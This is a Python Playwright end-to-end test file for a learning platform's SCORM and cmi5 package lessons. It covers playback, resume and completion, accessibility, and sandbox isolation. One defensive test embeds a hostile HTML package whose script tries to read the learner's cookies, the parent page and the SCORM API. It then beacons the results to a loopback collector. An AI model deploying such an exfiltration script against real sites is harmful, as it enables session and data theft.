"""Package lessons in Chromium: a SCORM 1.2 and a SCORM 2004 package (built by
learnward.packages.samples, as the demo's is) play in their sandboxed frame, their completion
marks the lesson complete, and a suspended attempt resumes with its data; a malicious package
cannot read the learner's Learnward cookie or the lesson page. The upload page and the lesson
page pass axe-core and fit a 390 px phone.

The playing contexts keep the pages' Content-Security-Policy (no bypass): the sandbox is part of
what is tested. axe-core runs in a context that bypasses CSP only to inject itself."""

from __future__ import annotations

import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import unquote

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from playwright.sync_api import expect

from e2e.conftest import check_accessibility
from e2e.steps import log_in
from learnward.packages import samples

pytestmark = pytest.mark.e2e


@pytest.fixture
def strict_page(browser, live_server):
    """A page whose context keeps every Content-Security-Policy (the sandbox among them)."""
    context = browser.new_context(base_url=live_server.url, locale="en-GB")
    page = context.new_page()
    page.set_default_timeout(15000)
    yield page
    context.close()


@pytest.fixture
def collector():
    """A loopback HTTP server recording every request's path: where the malicious package sends
    whatever it could read."""
    received: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            received.append(unquote(self.path))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], received
    finally:
        server.shutdown()
        server.server_close()


def _package_lesson(author, module, data: bytes):
    from learnward.packages.services import package_import

    upload = SimpleUploadedFile("p.zip", data, content_type="application/zip")
    return package_import(actor=author, upload=upload, module=module)


@pytest.fixture
def world(db, make_user):
    from learnward.accounts.roles import COURSE_AUTHOR
    from learnward.learning.services import enrolment_create
    from tests.catalog.factories import make_course

    course = make_course(title="Fire safety", modules=1, lessons_per_module=0, questions=0)
    module = course.modules.get()
    author = make_user(email="author@example.test", roles=[COURSE_AUTHOR])
    scorm12 = _package_lesson(author, module, samples.scorm12_package(title="Evacuation routes"))
    scorm2004 = _package_lesson(author, module, samples.scorm2004_package(title="Extinguishers"))
    learner = make_user(email="sam@example.test")
    enrolment_create(user=learner, course=course)
    return {
        "course": course,
        "module": module,
        "author": author,
        "learner": learner,
        "scorm12": scorm12,
        "scorm2004": scorm2004,
    }


def _lesson_url(package) -> str:
    lesson = package.lesson
    return reverse("learning:lesson", args=[lesson.module.course.slug, lesson.pk])


def _completed(user, package) -> bool:
    from learnward.learning.models import ActivityEvent

    return ActivityEvent.objects.filter(
        user=user, lesson=package.lesson, kind=ActivityEvent.Kind.COMPLETED
    ).exists()


def _fits_a_phone(page) -> None:
    page.set_viewport_size({"width": 390, "height": 844})
    assert page.evaluate("document.documentElement.scrollWidth") <= 390, page.url
    page.set_viewport_size({"width": 1280, "height": 720})


def test_scorm12_plays_suspends_resumes_and_completes(strict_page, world):
    from learnward.packages.models import PackageAttempt

    page, learner, package = strict_page, world["learner"], world["scorm12"]
    log_in(page, learner.email)
    page.goto(_lesson_url(package))
    frame = page.frame_locator("iframe.package-frame")
    expect(frame.locator("#status")).to_have_text("Ready: not attempted.")
    frame.get_by_label("A note to keep for next time").fill("fire doors: east wing")
    frame.get_by_role("button", name="Save and finish later").click()
    expect(frame.locator("#status")).to_have_text("Saved.")
    attempt = PackageAttempt.objects.get(user=learner, package=package)
    assert attempt.suspend_data == "fire doors: east wing"
    assert attempt.location == "page-2"
    assert not _completed(learner, package)

    # The learner closes the page and comes back later: the attempt resumes with its data.
    context = page.context
    page.close()
    page = context.new_page()
    page.goto(_lesson_url(package))
    frame = page.frame_locator("iframe.package-frame")
    expect(frame.locator("#restored")).to_have_text("fire doors: east wing")
    expect(frame.locator("#status")).to_have_text("Ready: incomplete.")
    frame.get_by_role("button", name="I have finished this lesson").click()
    expect(frame.locator("#status")).to_have_text("Finished.")
    attempt.refresh_from_db()
    assert attempt.completed_at is not None and attempt.score_raw == 90
    assert _completed(learner, package)
    assert PackageAttempt.objects.filter(user=learner).count() == 1
    page.goto(_lesson_url(package))
    expect(page.get_by_text("You have finished this package.")).to_be_visible()
    expect(page.get_by_text("You have completed this lesson.")).to_be_visible()


def test_scorm2004_plays_and_completes(strict_page, world):
    from learnward.packages.models import PackageAttempt

    page, learner, package = strict_page, world["learner"], world["scorm2004"]
    log_in(page, learner.email)
    page.goto(_lesson_url(package))
    frame = page.frame_locator("iframe.package-frame")
    expect(frame.locator("#status")).to_have_text("Ready: unknown.")
    frame.get_by_label("A note to keep for next time").fill("CO2 for electrical fires")
    frame.get_by_role("button", name="Save and finish later").click()
    expect(frame.locator("#status")).to_have_text("Saved.")
    page.reload()
    frame = page.frame_locator("iframe.package-frame")
    expect(frame.locator("#restored")).to_have_text("CO2 for electrical fires")
    frame.get_by_role("button", name="I have finished this lesson").click()
    expect(frame.locator("#status")).to_have_text("Finished.")
    attempt = PackageAttempt.objects.get(user=learner, package=package)
    assert attempt.completion_status == "completed" and attempt.success_status == "passed"
    assert attempt.passed_at is not None
    assert _completed(learner, package)


MALICIOUS = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Totally harmless</title></head>
<body><main><h1>Totally harmless</h1><pre id="found"></pre></main>
<script>
(function () {
  var found = [];
  function tryRead(label, read) {
    try { found.push(label + "=" + read()); } catch (e) { found.push(label + "!" + e.name); }
  }
  tryRead("cookie", function () { return document.cookie; });
  tryRead("parent-cookie", function () { return window.parent.document.cookie; });
  tryRead("top-page", function () { return window.top.document.documentElement.outerHTML; });
  tryRead("parent-api", function () { return String(window.parent.API); });
  tryRead("storage", function () { return String(window.localStorage.length); });
  var out = document.getElementById("found");
  function report(text) {
    out.textContent += text + "\\n";
    new Image().src = "http://127.0.0.1:COLLECTOR/collect?" + encodeURIComponent(text);
  }
  report(found.join("|"));
  fetch("/dashboard/", {credentials: "include"})
    .then(function (r) { return r.text(); })
    .then(function (t) { report("dashboard=" + t); })
    .catch(function (e) { report("dashboard!" + e.name); })
    .then(function () { report("done"); });
})();
</script></body></html>
"""


def test_malicious_package_cannot_read_the_learnward_session(strict_page, world, collector):
    port, received = collector
    page, learner = strict_page, world["learner"]
    html = MALICIOUS.replace("COLLECTOR", str(port))
    package = _package_lesson(
        world["author"], world["module"], samples.scorm12_package(title="Harmless", page=html)
    )
    log_in(page, learner.email)
    session = next(c["value"] for c in page.context.cookies() if c["name"] == "sessionid")
    assert session
    page.goto(_lesson_url(package))
    frame = page.frame_locator("iframe.package-frame")
    expect(frame.locator("#found")).to_contain_text("done")
    seen = frame.locator("#found").inner_text()
    # The content ran (it reached the collector), in an opaque origin: every read failed.
    assert "cookie!SecurityError" in seen
    assert "parent-cookie!SecurityError" in seen
    assert "top-page!SecurityError" in seen
    assert "parent-api!SecurityError" in seen
    assert "dashboard!TypeError" in seen  # no CORS for the opaque origin: nothing readable
    for _ in range(200):  # the image request may still be on its way: wait for it
        if any("cookie!" in r for r in received):
            break
        time.sleep(0.05)
    assert any("cookie!SecurityError" in r for r in received)
    everything = seen + "".join(received)
    assert session not in everything
    assert "sam@example.test" not in everything


def test_cmi5_au_fetches_its_token_once_and_its_statements_mark_progress(strict_page, world):
    from learnward.packages.models import PackageAttempt, PackageStatement
    from learnward.packages.services import VERB_SATISFIED

    page, learner = strict_page, world["learner"]
    package = _package_lesson(world["author"], world["module"], samples.cmi5_package())
    log_in(page, learner.email)
    page.goto(_lesson_url(package))
    frame = page.frame_locator("iframe.package-frame")
    # Fetched the token, read LMS.LaunchData and sent "initialized", from the opaque origin.
    expect(frame.locator("#status")).to_have_text("Ready.")
    frame.get_by_role("button", name="Ask for the token again").click()
    expect(frame.locator("#second")).to_have_text("Refused: error 1.")
    assert not _completed(learner, package)
    frame.get_by_role("button", name="I have finished this lesson").click()
    expect(frame.locator("#status")).to_have_text("Finished.")
    attempt = PackageAttempt.objects.get(user=learner, package=package)
    assert attempt.completed_at and attempt.passed_at
    assert _completed(learner, package)
    verbs = [v.rsplit("/", 1)[-1] for v in PackageStatement.objects.values_list("verb", flat=True)]
    assert verbs == ["initialized", "completed", "satisfied", "passed", "terminated"]
    assert PackageStatement.objects.filter(verb=VERB_SATISFIED).count() == 1


def test_upload_page_and_lesson_page_are_accessible(page, world):
    log_in(page, world["author"].email)
    page.goto(reverse("packages:list"))
    expect(page.get_by_role("heading", name="Package lessons", level=1)).to_be_visible()
    check_accessibility(page, label="package upload page")
    _fits_a_phone(page)
    page.get_by_label("Package (a .zip file)").set_input_files(
        {
            "name": "safety.zip",
            "mimeType": "application/zip",
            "buffer": samples.scorm12_package(title="Alarm points"),
        }
    )
    page.get_by_label("Where the lesson goes").select_option(label="Module 1")
    page.get_by_role("button", name="Upload and add the lesson").click()
    expect(page.get_by_text("Package lesson added: Alarm points, in Fire safety.")).to_be_visible()
    # A refused package: the error names the problem.
    page.get_by_label("Package (a .zip file)").set_input_files(
        {
            "name": "bad.zip",
            "mimeType": "application/zip",
            "buffer": samples.zip_bytes({"index.html": "x"}),
        }
    )
    page.get_by_role("button", name="Upload and add the lesson").click()
    expect(page.get_by_role("alert")).to_contain_text("The package has no imsmanifest.xml")
    check_accessibility(page, label="package upload page with an error")

    page.context.clear_cookies()
    log_in(page, world["learner"].email)
    page.goto(_lesson_url(world["scorm12"]))
    expect(page.frame_locator("iframe.package-frame").locator("#status")).to_have_text(
        "Ready: not attempted."
    )
    check_accessibility(page, label="package lesson page")
    _fits_a_phone(page)
